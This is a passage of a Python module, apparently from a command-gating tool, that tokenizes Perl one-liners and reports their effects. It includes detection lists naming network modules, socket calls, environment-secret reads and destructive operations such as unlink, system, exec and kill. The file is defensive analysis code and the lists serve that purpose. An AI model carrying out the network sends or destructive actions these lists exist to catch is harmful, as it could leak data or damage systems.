"""Perl one-liners: an exact tokenizer for the common part of the language, and accept-lists of names.

What a slash, a percent sign or a quote-like word means depends on the place. Where that is not sure,
or a construct is not among those known, the code is uncertain.
"""

from __future__ import annotations

import itertools
import re
from typing import NamedTuple

from autogate.effects import Effect, Kind, Outcome, RunCode, RunCommand, RunFile, RunShell
from autogate.knowledge.languages._reader import NotReadError
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOLE,
    HOME,
    LIMIT,
    at_home,
    distinct,
    opened,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import MANY, STAR, UNKNOWN, is_static

_OPERAND_AFTER = frozenset(
    """print printf say return and or not xor if unless while until elsif foreach for when split grep map join push unshift
    x lt gt le ge eq ne cmp defined ref scalar lc uc lcfirst ucfirst length chomp chop die warn keys values each delete exists
    reverse sort sprintf int abs sqrt hex oct ord chr unlink system exec open close eof else do eval my our local no use
    require splice wantarray last next redo state rand srand index substr isa""".split()
)
"""After these names an operand follows."""
_OPERATOR_AFTER = frozenset(
    "shift pop time times wait __FILE__ __LINE__ __PACKAGE__ STDIN STDOUT STDERR ARGV DATA".split()
)
_PURE = frozenset(
    """print printf say return and or not xor if unless while until elsif else foreach for when split grep map join push unshift
    x lt gt le ge eq ne cmp defined undef ref scalar lc uc lcfirst ucfirst fc length chomp chop chr ord die warn keys values each
    delete exists reverse sort sprintf int abs sqrt sin cos atan2 exp log hex oct rand srand index rindex substr shift pop splice
    my our local no sub package last next redo wantarray time times localtime gmtime sleep exit pos quotemeta pack unpack vec
    study lock reset caller bless eof tell seek fileno close binmode readline getc read sysread select flush state given default
    continue BEGIN END INIT CHECK UNITCHECK STDIN STDOUT STDERR ARGV DATA ENV __FILE__ __LINE__ __PACKAGE__ __END__ __DATA__ isa
    sum sum0 min max minstr maxstr first any all none uniq uniqnum uniqint shuffle pairs pairkeys pairvalues reduce product pairmap sample head
    tail floor ceil fmod strftime mktime strtol strtod pow Dumper encode_json decode_json to_json from_json encode decode encode_utf8 decode_utf8
    encode_base64 decode_base64 md5_hex md5_base64 md5 sha1_hex sha256_hex sha512_hex sha1 sha256 basename dirname fileparse blessed
    reftype looks_like_number dualvar weaken timelocal timegm gettimeofday tv_interval usleep wrap fill getcwd cwd lstat stat
    formline prototype utf8 qw waitpid getppid getpwuid getpwnam getgrgid getlogin alarm
    STDIN STDOUT STDERR inf nan uri_escape uri_unescape catfile catdir rel2abs abs2rel isatty DBL_MAX INT_MAX LONG_MAX syswrite
    croak carp confess cluck canonpath splitdir true false""".split()
)
_METHODS = frozenset(
    """new pretty canonical utf8 encode decode allow_nonref print printf say close autoflush getline getlines eof binmode opened
    add hexdigest b64digest digest addfile Indent Sortkeys Terse Dump fileno ascii latin1 relaxed copy bstr badd bmul bpow bdiv
    bsub numify as_hex as_int ymd hms epoch year mon mday hour min sec strftime strptime bfac is_zero bcmp boolean indent space_before space_after""".split()
)
_MODULES = frozenset(
    """strict warnings utf8 feature integer bigint bignum bigrat constant vars overload open less sort locale bytes
    List::Util Scalar::Util Hash::Util Data::Dumper POSIX Time::HiRes Time::Local Time::Piece Time::Seconds JSON::PP JSON JSON::XS
    MIME::Base64 MIME::QuotedPrint Digest::MD5 Digest::SHA Encode Text::Wrap Text::Tabs Text::ParseWords Text::Abbrev File::Basename
    File::Spec File::Spec::Functions Cwd Math::Trig Math::BigInt Math::BigFloat Math::Complex Getopt::Long Getopt::Std Carp
    English Unicode::Normalize Unicode::UCD charnames diagnostics autodie mro parent base fields version Config
    URI::Escape HTML::Entities Term::ANSIColor List::MoreUtils experimental re Errno Fcntl
    PerlIO utf8::all""".split()
)
_SEND = frozenset(
    (
        "LWP::Simple",
        "LWP::UserAgent",
        "HTTP::Tiny",
        "IO::Socket",
        "IO::Socket::INET",
        "IO::Socket::SSL",
        "Socket",
        "Net::FTP",
        "Net::SMTP",
    )
)
_EFFECTS = {
    "unlink": "delete", "rmdir": "delete", "rmtree": "delete-tree", "remove_tree": "delete-tree", "rename": "move", "move": "move", "mkdir": "create",
    "mkpath": "create", "make_path": "create", "copy": "copy", "truncate": "write", "chmod": "mode", "chown": "owner", "symlink": "link", "link": "link",
    "utime": "touch", "opendir": "list", "system": "run", "exec": "run", "kill": "kill", "chdir": "chdir", "glob": "pure", "readdir": "pure",
    "closedir": "pure", "readlink": "pure", "read_file": "read", "write_file": "write", "getprint": "fetch", "get": "fetch", "getstore": "fetch",
}  # fmt: skip
_NETWORK = frozenset(
    "socket connect bind listen accept send recv shutdown setsockopt socketpair inet_aton sockaddr_in getprotobyname gethostbyname".split()
)

_word = re.compile(r"[^\W0-9]\w*(?:(?:::|')[^\W0-9]\w*)*(?:::)?")
_plain_word = re.compile(r"[^\W0-9]\w*(?:::[^\W0-9]\w*)*")
_blank = re.compile(r"(?:\s|\#[^\n]*)+")
_number = re.compile(
    r"0[xX][0-9a-fA-F_]+|0[bB][01_]+|[0-9][0-9_]*(?:\.(?!\.)[0-9_]*)?(?:[eE][+-]?[0-9]+)?|\.[0-9]+(?:[eE][+-]?[0-9]+)?"
)
_variable = re.compile(
    r"\$\$(?![\w{$:])|\$\#?(?:::)?[^\W0-9]\w*(?:::\w+)*|\$[0-9]+|\$\^\w|\$[&`'+!@/\\,;.\"_~=%:?<>()\[\]|-]|[@%](?:::)?[^\W0-9]\w*(?:::\w+)*|@_|@-|@\+|%\+|%-|&[^\W0-9]\w*(?:::\w+)*"
)
_operator = re.compile(
    r"<=>|\*\*=|\|\|=|&&=|//=|\.\.\.|<<=|>>=|->|\+\+|--|\*\*|=~|!~|==|!=|<=|>=|&&|\|\||//|\.\.|::|\+=|-=|\*=|/=|\.=|%=|x=|&=|\|=|\^=|<<|>>|=>|[-+*/%=<>!~\\?:.,;(){}\[\]&|^]"
)
_interpolated = re.compile(
    r"""\\.|\$\{\^?\w+\}|\$\#?(?:::)?[^\W0-9]\w*(?:::\w+)*|\$[0-9]+|\$[&.,;/\\!@0]|@[^\W0-9]\w*(?:::\w+)*|@\{?_\}?|[$@]""",
    re.VERBOSE | re.DOTALL,
)
_subscript = re.compile(
    r"(?:->)?(?:\[(?:-?[0-9]+|\$\#?[^\W0-9]\w*(?:\s*[-+*]\s*[0-9]+)?|\$[0-9]+|[-0-9, .]+)\]|\{(?:-?\w+|\$[^\W0-9]\w*|\$[0-9]+|'[^'\\]*'|\"[^\"\\$@]*\")\})"
)
_CLOSING = {"(": ")", "[": "]", "{": "}", "<": ">"}
_QUOTES = frozenset(("q", "qq", "qw", "qx", "qr", "m", "s", "tr", "y"))


class _Token(NamedTuple):
    kind: str
    """``name`` ``var`` ``text`` (its value) ``number`` ``op`` ``regex`` ``command`` ``words`` ``read``."""
    text: str


_NOTHING = _Token("op", "")


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the code does beyond computing and printing. ``options`` are perl's own, such as ``-n``."""
    if len(text) > LIMIT:
        return (uncertain("perl", "very long code"),)
    out: list[Outcome] = [] if is_static(text) else [unknown_part("perl")]
    out.extend(_started(arguments, options))
    try:
        reader = _Reader(strip_markers(text))
        try:
            reader.tokenize()
        except NotReadError as problem:
            reader.out.append(uncertain("perl", str(problem)))
        reader.read()
    except (NotReadError, RecursionError) as problem:
        return distinct([*out, uncertain("perl", str(problem)[:60])])
    return distinct([*(at_home(o) for o in reader.out), *out])


def _started(arguments: tuple[str, ...], options: tuple[str, ...]) -> list[Outcome]:
    """Modules given by ``-M``, and operands that the magic of ``<>`` runs."""
    out: list[Outcome] = []
    for option in options:
        if option[:2] in ("-M", "-m"):
            name = re.split("[= ]", option[2:].lstrip("-"))[0]
            if name not in _MODULES and name not in _SEND:
                out.append(uncertain("perl", f"the module {name}"))
            elif name in _SEND:
                out.append(Effect(Kind.NETWORK, UNKNOWN, "request"))
        elif option[:2] in ("-I", "-d"):
            out.append(uncertain("perl", f"the option {option}"))
    if any(
        option[:1] == "-" and option[1:2] not in ("M", "m") and re.search("[np]", option)
        for option in options
    ):
        for argument in arguments:
            stripped = argument.strip()
            if stripped.endswith("|") or stripped.startswith("|"):
                out.append(RunShell(stripped.strip("|")))
            elif stripped.startswith(">"):
                out.extend(opened(stripped.lstrip("> "), "write"))
    return out


class _Reader:
    """Tokens first, then what they do."""

    def __init__(self, text: str, depth: int = 0) -> None:
        if depth > 8:
            raise NotReadError("deep nesting")
        self.text = text
        self.depth = depth
        self.tokens: list[_Token] = []
        self.out: list[Outcome] = []
        self.braces: list[str] = []
        self.heredocs: list[tuple[str, bool, bool, int]] = []
        self.last_brace = ""

    # tokens

    def tokenize(self) -> None:
        text = self.text
        at = 0
        while at < len(text):
            if text[at] == "\n" and self.heredocs:
                at = self._heredoc_bodies(at + 1)
                continue
            if text[at] == "=" and (at == 0 or text[at - 1] == "\n") and text[at + 1 : at + 2].isalpha():
                cut = re.compile(r"^=cut\b.*$", re.MULTILINE).search(text, at)
                if cut is None:
                    return
                at = cut.end()
                continue
            if text[at].isspace():
                at += 1
                continue
            if text[at] == "#":
                end = text.find("\n", at)
                at = len(text) if end < 0 else end
                continue
            if text.startswith(("__END__", "__DATA__"), at) and not text[at + 7 : at + 8].isalnum():
                return
            at = self._token(at)

    def _add(self, kind: str, value: str) -> None:
        self.tokens.append(_Token(kind, value))

    def _operand(self) -> bool | None:
        """Whether an operand is expected here, None where it is not sure."""
        if not self.tokens:
            return True
        kind, text = self.tokens[-1]
        if kind in ("var", "text", "number", "regex", "command", "words", "read"):
            return False
        if kind == "name":
            before = self.tokens[-2].text if len(self.tokens) > 1 else ""
            if before in ("->", "sub", "{") and text not in _OPERAND_AFTER:
                return None if before == "{" else False
            if before == "->":
                return False
            if text in _OPERAND_AFTER:
                return True
            return False if text in _OPERATOR_AFTER else None
        if text in (")", "]"):
            return False
        if text == "}":
            return False if self.last_brace == "subscript" else None
        if text in ("++", "--"):
            return None
        return True

    def _token(self, at: int) -> int:
        text = self.text
        char = text[at]
        operand = self._operand()
        if (
            char == "$"
            or char == "@"
            or (
                char in "%&"
                and operand is not False
                and re.match(r"[%&](?:::)?[^\W0-9{$]|%[+-]|[%&][{$]", text[at:])
            )
        ):
            if char in "%&" and operand is None and re.match(r"[%&]\s", text[at:]):
                raise NotReadError(f"a {char} that may be an operator")
            return self._sigil(at)
        if char in "\"'`":
            return self._quoted(at, char, {"'": "q", '"': "qq", "`": "qx"}[char])
        match = _word.match(text, at)
        if match is not None:
            return self._name(at, match)
        match = _number.match(text, at)
        if match is not None and (char != "." or operand):
            self._add("number", match[0])
            return match.end()
        if char == "/" and operand is not False:
            if operand is None:
                raise NotReadError("a slash that may divide or begin a pattern")
            return self._quoted(at, "/", "m")
        if char == "<" and operand is not False:
            match = re.compile(r"<(\$?\w*|[^<>\n]*[*?.~/][^<>\n]*)>").match(text, at)
            if match is not None:
                self._add("read", match[1])
                return match.end()
            match = re.compile(r"<<(~?)(?:\"([^\"\n]*)\"|'([^'\n]*)'|([A-Za-z_]\w*))").match(text, at)
            if match is not None and operand:
                self._add("text", UNKNOWN)
                tag = next(g for g in match.groups()[1:] if g is not None)
                self.heredocs.append((tag, bool(match[1]), match[3] is None, len(self.tokens) - 1))
                return match.end()
            if operand is None or text[at : at + 2] == "<<":
                raise NotReadError("a < that may read")
        if char in "*%&" and operand is not False and char != "*" and operand is None:
            raise NotReadError(f"a {char} that may be an operator")
        if char == "*" and operand is not False:
            raise NotReadError("a typeglob")
        if char == "?" and operand:
            raise NotReadError("a question mark")
        match = re.compile(r"-[a-zA-Z](?![\w'])").match(text, at)
        if match is not None and operand is not False and not re.match(r"\s*(=>|,)", text[at + 2 :]):
            self._add("op", "-X")
            return at + 2
        match = _operator.match(text, at)
        if match is None:
            raise NotReadError(f"the character {char!r}")
        word = match[0]
        if word == "{":
            last = self.tokens[-1] if self.tokens else _NOTHING
            subscript = (
                last.kind == "var"
                or last.text in ("->", "]")
                or (last.text == "}" and self.last_brace == "subscript")
                or last.text in ("@", "%", "$", "&")
            )
            self.braces.append("subscript" if subscript else "block")
        elif word == "}":
            self.last_brace = self.braces.pop() if self.braces else "block"
        self._add("op", word)
        return match.end()

    def _sigil(self, at: int) -> int:
        text = self.text
        match = _variable.match(text, at)
        if match is not None and match[0][0] == "&":
            self._add("op", "&name")
            self._add("name", match[0][1:])
            return match.end()
        if match is not None:
            self._add("var", match[0])
            return match.end()
        match = re.compile(r"(\$\#?|@|%)\s*(\$+\w+)").match(text, at)
        if match is not None:  # $$x, @$x, %$x: dereferences
            self._add("var", match[1] + "$")
            return match.end()
        match = re.compile(r"(\$\#?|@|%)\{\s*(\^?\w+)\s*\}").match(text, at)
        if match is not None:
            self._add("var", match[1][0] + match[2])
            return match.end()
        match = re.compile(r"(\$\#?|@|%)\{").match(text, at)
        if match is not None:
            self._add("op", "@" if match[1] == "@" else "%")
            return match.end() - 1
        raise NotReadError(f"what follows {text[at]}")

    def _name(self, at: int, match: re.Match[str]) -> int:
        text = self.text
        word = match[0]
        plain = _plain_word.match(text, at)
        assert plain is not None
        last = self.tokens[-1] if self.tokens else _NOTHING
        after = _blank.match(text, plain.end())
        following = plain.end() if after is None else after.end()
        key = text.startswith("=>", following) or (
            last.text == "{"
            and self.braces
            and self.braces[-1] == "subscript"
            and text[following : following + 1] == "}"
        )
        if key:
            self._add("text", plain[0])
            return plain.end()
        if last.text == "->" or (last.kind == "name" and last.text in ("sub", "package")):
            self._add("name", plain[0])
            return plain.end()
        word = plain[0]
        if word in _QUOTES:
            if "'" in match[0] and match[0].startswith(word + "'"):
                return self._quoted(plain.end(), "'", word)
            delimiter_at = plain.end()
            if text[delimiter_at : delimiter_at + 1].isspace():
                blank = re.compile(r"\s+").match(text, delimiter_at)
                assert blank is not None
                delimiter_at = blank.end()
                if text[delimiter_at : delimiter_at + 1] == "#":
                    raise NotReadError("a quote with a comment")
            delimiter = text[delimiter_at : delimiter_at + 1]
            if delimiter in ("=", ";", ")", "") or (delimiter == "," and self._operand() is not True):
                raise NotReadError(f"the quote {word}")
            if delimiter.isalnum() or delimiter == "_":
                raise NotReadError(f"the quote {word}")
            return self._quoted(delimiter_at, delimiter, word)
        if "'" in match[0]:
            raise NotReadError("an old package separator")
        self._add("name", word)
        return plain.end()

    def _delimited(self, at: int, delimiter: str) -> tuple[str, int]:
        """The text after the delimiter at ``at`` and the place behind its end."""
        text = self.text
        closing = _CLOSING.get(delimiter, delimiter)
        depth = 1
        start = at + 1
        index = start
        while index < len(text):
            char = text[index]
            if char == "\\":
                index += 2
                continue
            if char == closing:
                depth -= 1
                if depth == 0:
                    return text[start:index], index + 1
            elif char == delimiter:
                depth += 1
            index += 1
        raise NotReadError("a text without end")

    def _quoted(self, at: int, delimiter: str, word: str) -> int:
        body, end = self._delimited(at, delimiter)
        if word == "q":
            self._add("text", with_unknown(re.sub(r"\\([\\'])", r"\1", body)))
        elif word == "qq":
            self._add("text", self._value(body))
        elif word == "qw":
            self._add("words", with_unknown(body))
        elif word == "qx":
            self._add("command", with_unknown(body) if delimiter == "'" else self._value(body))
        elif word in ("m", "qr"):
            self._pattern(body, delimiter)
            self._add("regex", "")
            end = self._flags(end)
        else:
            end = self._two_parts(word, body, delimiter, end)
        return end

    def _flags(self, at: int) -> int:
        match = re.compile(r"[a-zA-Z]*").match(self.text, at)
        assert match is not None
        if not set(match[0]) <= set("gimosxpadlurcne"):
            word = match[0].lstrip("gimosxpadlurcn")
            if word not in (
                "and",
                "or",
                "if",
                "unless",
                "x",
                "eq",
                "ne",
                "cmp",
                "for",
                "foreach",
                "while",
                "until",
                "lt",
                "gt",
            ):
                raise NotReadError(f"the flags {match[0]}")
            return at + len(match[0]) - len(word)
        self.flags = match[0]
        return match.end()

    def _two_parts(self, word: str, body: str, delimiter: str, end: int) -> int:
        text = self.text
        if delimiter in _CLOSING:
            blank = _blank.match(text, end)
            at = end if blank is None else blank.end()
            second = text[at : at + 1]
            if not second or second.isalnum():
                raise NotReadError("a substitution")
            replacement, end = self._delimited(at, second)
        else:
            second = delimiter
            replacement, end = self._delimited(end - 1, delimiter)
        self.flags = ""
        end = self._flags(end)
        if word == "s":
            self._pattern(body, delimiter)
            if self.flags.count("e") > 1:
                self.out.append(uncertain("perl", "s///ee"))
            elif "e" in self.flags:
                self._code(replacement)
            elif second != "'":
                self._value(replacement)
        self._add("regex", "")
        return end

    def _code(self, code: str) -> None:
        """Code within the code: read by itself, with what it does added."""
        inner = _Reader(code, self.depth + 1)
        try:
            inner.tokenize()
        except NotReadError as problem:
            inner.out.append(uncertain("perl", str(problem)))
        self.out.extend(inner.out)
        self.tokens.append(_Token("op", ";"))
        self.tokens.extend(inner.tokens)
        self.tokens.append(_Token("op", ";"))

    def _pattern(self, body: str, delimiter: str) -> None:
        if "(?{" in body or "(??{" in body or re.search(r"\(\?[a-z^]*\?*\{", body):
            raise NotReadError("code in a pattern")
        if delimiter != "'":
            self._value(body, pattern=True)

    def _value(self, body: str, *, pattern: bool = False) -> str:
        """The value of an interpolating text; what is interpolated must be simple."""
        parts: list[str] = []
        at = 0
        while True:
            match = _interpolated.search(body, at)
            if match is None:
                parts.append(body[at:])
                break
            parts.append(body[at : match.start()])
            at = match.end()
            word = match[0]
            if word[0] == "\\":
                parts.append(_ESCAPES.get(word[1:], UNKNOWN if word[1:] in "xN0123c" else word[1:]))
                if word[1:] in ("x", "N", "c", "o"):
                    parts.append(UNKNOWN)
            elif word in ("$", "@"):
                following = body[at : at + 1]
                if word == "@" and not re.match(r"[\w{$:_]", following):
                    parts.append("@")
                elif word == "$" and (
                    following in ("", ")", "|", " ", "\n", "'", '"', "]") or (pattern and following in "/*+?")
                ):
                    parts.append("$")
                elif re.match(r"\{?\$+\w+\}?", body[at:]):
                    inner = re.match(r"\{?\$+\w+\}?", body[at:])
                    assert inner is not None
                    at += inner.end()
                    at = self._subscripts(body, at, pattern=pattern)
                    parts.append(UNKNOWN)
                else:
                    raise NotReadError("code in a text")
            else:
                if word.startswith("$") and body[at : at + 1] == "{" and word == "$":
                    raise NotReadError("code in a text")
                start = at
                at = self._subscripts(body, at, pattern=pattern)
                name = word.strip("${}@")
                if name == "ENV" and at > start:
                    key = body[start:at].strip("{}'\"->")
                    self.out.extend(variable_read(key if key.isidentifier() else UNKNOWN))
                    parts.append(HOME if key == "HOME" else UNKNOWN)
                else:
                    parts.append(UNKNOWN)
        value = with_unknown("".join(parts))
        return re.sub("\x00+", "\x00", value)

    def _subscripts(self, body: str, at: int, *, pattern: bool) -> int:
        while True:
            match = _subscript.match(body, at)
            if match is None:
                break
            at = match.end()
        if pattern:
            if re.match(r"(?:->)?(?:\{(?![0-9]*,?[0-9]*\})|\[(?![\w\s^.,:-]*\]))", body[at:]):
                raise NotReadError("code in a pattern")
        elif re.match(r"(?:->)?[\[{]", body[at:]):
            raise NotReadError("code in a text")
        return at

    def _heredoc_bodies(self, at: int) -> int:
        text = self.text
        for tag, indented, interpolates, index in self.heredocs:
            lines: list[str] = []
            while True:
                if at >= len(text):
                    raise NotReadError("a here-document without end")
                end = text.find("\n", at)
                end = len(text) if end < 0 else end
                line = text[at:end]
                at = end + 1
                if (line.strip() if indented else line) == tag:
                    break
                lines.append(line)
            body = "\n".join(lines)
            self.tokens[index] = _Token("text", self._value(body) if interpolates else with_unknown(body))
        self.heredocs = []
        return min(at, len(text))

    # what the tokens do

    def read(self) -> None:
        tokens = self.tokens
        self.subs = {b.text for a, b in itertools.pairwise(tokens) if a.text == "sub" and b.kind == "name"}
        self.variables = self._assigned()
        for at, (kind, text) in enumerate(tokens):
            if kind == "name":
                self._read_name(at)
            elif kind == "command":
                self.out.append(RunShell(text))
            elif kind == "var":
                self._read_variable(at)
            elif kind == "read" and text and not re.fullmatch(r"\$?\w+", text):
                continue  # a pattern of file names
            elif (
                text == "->"
                and at + 1 < len(tokens)
                and (tokens[at + 1].text == "(" or tokens[at + 1].kind == "var")
            ):
                self.out.append(uncertain("perl", "a call through a variable"))
            elif text == "::" or (
                text in ("@", "%")
                and [t.kind for t in tokens[at + 1 : at + 3]] == ["op", "text"]
                and tokens[at + 1].text == "{"
            ):
                self.out.append(uncertain("perl", "a variable by name"))
            elif text == "&" and at + 1 < len(tokens) and tokens[at + 1].text in ("{", "$"):
                self.out.append(uncertain("perl", "a call by name"))

    def _assigned(self) -> dict[str, str]:
        found: dict[str, str] = {}
        lost: set[str] = set()
        tokens = self.tokens
        for at, (kind, text) in enumerate(tokens):
            if kind != "var" or text[0] != "$":
                continue
            after = tokens[at + 1].text if at + 1 < len(tokens) else ""
            if after == "=" and tokens[at + 1].kind == "op":
                value = tokens[at + 2] if at + 2 < len(tokens) else _NOTHING
                end = tokens[at + 3].text if at + 3 < len(tokens) else ";"
                if (
                    value.kind in ("text", "number")
                    and end in (";", "}", ")")
                    and found.setdefault(text, value.text) == value.text
                ):
                    continue
                lost.add(text)
            elif after in ("=~", ".=", "+=", "-=", "*=", "++", "--", "||=", "//=", "x=") or (
                (at and tokens[at - 1].text in ("++", "--", "foreach", "for", "chomp", "(", "my", ",", "\\"))
                and not (
                    at > 1
                    and tokens[at - 1].text in ("(", ",")
                    and after in (")", ",")
                    and self._in_known_call(at)
                )
            ):
                lost.add(text)
        return {
            name: value
            for name, value in found.items()
            if name not in lost and name not in ("$_", "$a", "$b")
        }

    def _in_known_call(self, at: int) -> bool:
        """Whether the variable is an argument of a call that does not change it."""
        depth = 0
        for index in range(at - 1, max(-1, at - 30), -1):
            text = self.tokens[index].text
            if text in (")", "]", "}"):
                depth += 1
            elif text in ("(", "[", "{"):
                if depth == 0:
                    return index > 0 and self.tokens[index - 1].text in (
                        *_EFFECTS,
                        "print",
                        "open",
                        "sprintf",
                        "join",
                        "printf",
                        "inet_aton",
                        "sockaddr_in",
                        "connect",
                    )
                depth -= 1
        return False

    def _read_variable(self, at: int) -> None:
        tokens = self.tokens
        text = tokens[at].text
        name = text.lstrip("$@%#")
        after = tokens[at + 1] if at + 1 < len(tokens) else _NOTHING
        if name == "ENV":
            if after.text == "{" and text[0] == "$":
                key = tokens[at + 2] if at + 2 < len(tokens) else _NOTHING
                close = tokens[at + 3].text if at + 3 < len(tokens) else ""
                known = key.kind == "text" and close == "}"
                follows = tokens[at + 4].text if at + 4 < len(tokens) else ""
                if follows in ("=", ".=", "||=", "//="):
                    self.out.append(uncertain("perl", "a change of the environment"))
                else:
                    self.out.extend(variable_read(key.text if known else UNKNOWN))
            else:
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
        elif name in ("ARGV", "INC"):
            before = tokens[at - 1].text if at else ""
            before2 = tokens[at - 2].text if at > 1 else ""
            changes = (
                after.text in ("=", "=~", "||=", ".=")
                or before in ("unshift", "push", "splice", "local", "map", "\\", "grep", "for", "foreach")
                or before2 in ("unshift", "push", "splice", "foreach", "for")
            )
            if after.text in ("[", "{"):
                ending = next(
                    (i for i in range(at + 1, min(len(tokens), at + 30)) if tokens[i].text in ("]", "}")), at
                )
                changes = ending + 1 < len(tokens) and tokens[ending + 1].text in ("=", ".=", "=~", "||=")
            if before in ("foreach", "for") or before2 in (
                "foreach",
                "for",
            ):  # the elements may be changed there
                changes = any(kind == "read" and read in ("", "ARGV") for kind, read in tokens)
            if changes:
                self.out.append(uncertain("perl", f"a change of @{name}"))
        elif name == "SIG" and after.text == "{":
            value = tokens[at + 5] if at + 5 < len(tokens) else _NOTHING
            if (
                tokens[at + 4 : at + 5]
                and tokens[at + 4].text == "="
                and value.text not in ("sub", "IGNORE", "DEFAULT")
            ):
                self.out.append(uncertain("perl", "a handler by name"))
        elif (
            (text.startswith(("$^", "@^", "%^")) and text not in ("$^W", "$^T", "$^O", "$^V", "$^X"))
            or name.startswith("main::")
            or "::" in name
        ):
            if "::" in name and name.split("::")[0] in ("Data", "Text", "Encode", "JSON"):
                return
            self.out.append(uncertain("perl", f"the variable {text}"))

    def _read_name(self, at: int) -> None:
        tokens = self.tokens
        text = tokens[at].text
        before = tokens[at - 1] if at else _NOTHING
        after = tokens[at + 1] if at + 1 < len(tokens) else _NOTHING
        if before.text == "sub" and before.kind == "name":
            return
        if before.text == "->":
            if text not in _METHODS and text not in self.subs:
                self.out.append(uncertain("perl", f"the method {text}"))
            return
        if text in self.subs and before.text != "package":
            return
        if before.text == "&name":
            self.out.append(uncertain("perl", f"the function {text}"))
            return
        if before.kind == "name" and before.text in ("use", "no", "require"):
            self._module(text)
            return
        if text in ("use", "no"):
            if after.kind not in ("name", "number") and not re.match(r"v?[0-9]", after.text):
                self.out.append(uncertain("perl", text))
        elif text == "require":
            if after.kind not in ("name", "number"):
                self.out.append(uncertain("perl", "require"))
        elif text == "eval":
            if after.text != "{":
                value = self._arguments(at)
                if len(value) == 1 and is_static(value[0]):
                    self.out.append(RunCode("perl", value[0]))
                else:
                    self.out.append(uncertain("perl", "eval"))
        elif text == "do":
            if after.text != "{":
                value = self._arguments(at)
                self.out.append(RunFile(value[0] if value else UNKNOWN, "perl"))
        elif text == "open":
            self._open(at)
        elif text in ("sysopen", "dbmopen"):
            value = self._arguments(at)
            self.out.extend(opened(value[1] if len(value) > 1 else UNKNOWN, "write"))
        elif text == "fork":
            self._fork(at)
        elif text in _EFFECTS:
            self._effect(text, at)
        elif text in _NETWORK:
            self._network(text, at)
        elif text in _SEND:
            self.out.append(Effect(Kind.NETWORK, self._peer(at), "connect"))
        elif (
            text in _PURE
            or re.fullmatch(r"v[0-9.]+", text)
            or (text in _MODULES and (after.text in ("->", "::") or before.text in ("new", ",", "(")))
        ):
            return
        elif re.fullmatch(r"[A-Z_][A-Z0-9_]*", text) and after.text != "(" and HOLE not in text:
            return  # a file handle, a label or a constant
        elif (
            ("::" in text and text.rpartition("::")[0] in _MODULES and text.rpartition("::")[2] in _PURE)
            or (text.startswith("POSIX::") and text[7:] in _PURE)
            or before.text == "package"
        ):
            return
        else:
            self.out.append(uncertain("perl", f"the name {text}"))

    def _module(self, name: str) -> None:
        if name in _SEND:
            if name != "Socket":
                self.out.append(Effect(Kind.NETWORK, UNKNOWN, "request"))
        elif name in (
            "File::Path",
            "File::Copy",
            "File::Temp",
            "File::Find",
            "IO::File",
            "IO::Handle",
            "FindBin",
            "Sys::Hostname",
            "IPC::Open3",
            "IPC::Open2",
            "File::Slurp",
        ):
            return
        elif name not in _MODULES and not re.fullmatch(r"v[0-9.]+", name):
            self.out.append(uncertain("perl", f"the module {name}"))

    def _arguments(self, at: int) -> list[str]:
        """The arguments of a call as values, from after its name."""
        tokens = self.tokens
        index = at + 1
        closing = False
        if index < len(tokens) and tokens[index].text == "(" and tokens[index].kind == "op":
            index += 1
            closing = True
        out: list[str] = []
        current: list[_Token] = []
        depth = 0
        for position in range(index, min(len(tokens), index + 200)):
            kind, text = tokens[position]
            if kind == "op":
                if text in ("(", "[", "{"):
                    depth += 1
                elif text in (")", "]", "}"):
                    if depth == 0:
                        break
                    depth -= 1
                elif depth == 0 and text in (",", "=>"):
                    out.extend(self._values(current))
                    current = []
                    continue
                elif (depth == 0 and text == ";") or (
                    depth == 0 and text in ("||", "&&", "//") and not closing
                ):
                    break
            elif (
                kind == "name"
                and depth == 0
                and text in ("or", "and", "if", "unless", "for", "foreach", "while", "until")
            ):
                break
            current.append(tokens[position])
        if current:
            out.extend(self._values(current))
        return out

    def _values(self, tokens: list[_Token]) -> list[str]:
        if len(tokens) == 1:
            kind, text = tokens[0]
            if kind in ("text", "number"):
                return [text]
            if kind == "words":
                return text.split()
            if kind == "read":
                return (
                    [re.sub(r"[?]", "\x02", text.replace("*", STAR))]
                    if re.search("[*?]", text)
                    else [UNKNOWN]
                )
            if kind == "var":
                return [self.variables.get(text, UNKNOWN)] if text[0] == "$" else [MANY]
        if len(tokens) >= 2 and tokens[0].text == "glob" and tokens[-1].text in (")", tokens[-1].text):
            pattern = [t for t in tokens[1:] if t.kind == "text"]
            if len(pattern) == 1:
                return [pattern[0].text.replace("*", STAR).replace("?", "\x02")]
        if tokens and all(t.kind in ("text", "number", "var") or t.text == "." for t in tokens):
            parts = [
                UNKNOWN
                if t.kind == "var" and t.text not in self.variables
                else self.variables.get(t.text, t.text)
                for t in tokens
                if t.text != "." or t.kind != "op"
            ]
            return ["".join(parts)]
        if len(tokens) == 4 and tokens[0].text == "$ENV" and tokens[2].text == "HOME":
            return [HOME]
        return [UNKNOWN] if not tokens or tokens[0].text not in ("@", "<") else [MANY]

    def _open(self, at: int) -> None:
        values = self._arguments(at)
        if len(values) < 2:
            self.out.append(uncertain("perl", "open"))
            return
        mode = values[1].strip()
        if len(values) == 2:
            match = re.match(r"(\+?[<>]{0,2})\s*(.*)", mode, re.DOTALL)
            assert match is not None
            if mode.startswith("|"):
                self.out.append(RunShell(f"cat | {mode[1:].strip()}"))
            elif mode.endswith("|"):
                self.out.append(RunShell(mode[:-1].strip()))
            elif match[1].startswith((">", "<", "+")) and match[2].startswith("&"):
                self.out.append(uncertain("perl", "open of another handle"))
            elif match[1]:
                self._opened(match[1], match[2])
            elif mode in ("-", ">-"):
                return
            elif is_static(mode):
                self.out.extend(opened(mode))
            else:
                self.out.append(uncertain("perl", "open with two arguments"))
            return
        kind = mode.partition(":")[0].strip()
        if kind in ("-|", "|-"):
            words = tuple(values[2:])
            if len(words) == 1:
                self.out.append(RunShell(words[0] if kind == "-|" else f"cat | {words[0]}"))
            else:
                self.out.append(RunCommand(words))
        elif not is_static(kind) or kind.endswith(("&", "&=")):
            self.out.append(uncertain("perl", "open with an unknown mode"))
        else:
            if self.tokens and any(t.text == "\\" for t in self.tokens[at : at + 12]):
                return  # a text opened as a file
            self._opened(kind, values[2])

    def _opened(self, mode: str, path: str) -> None:
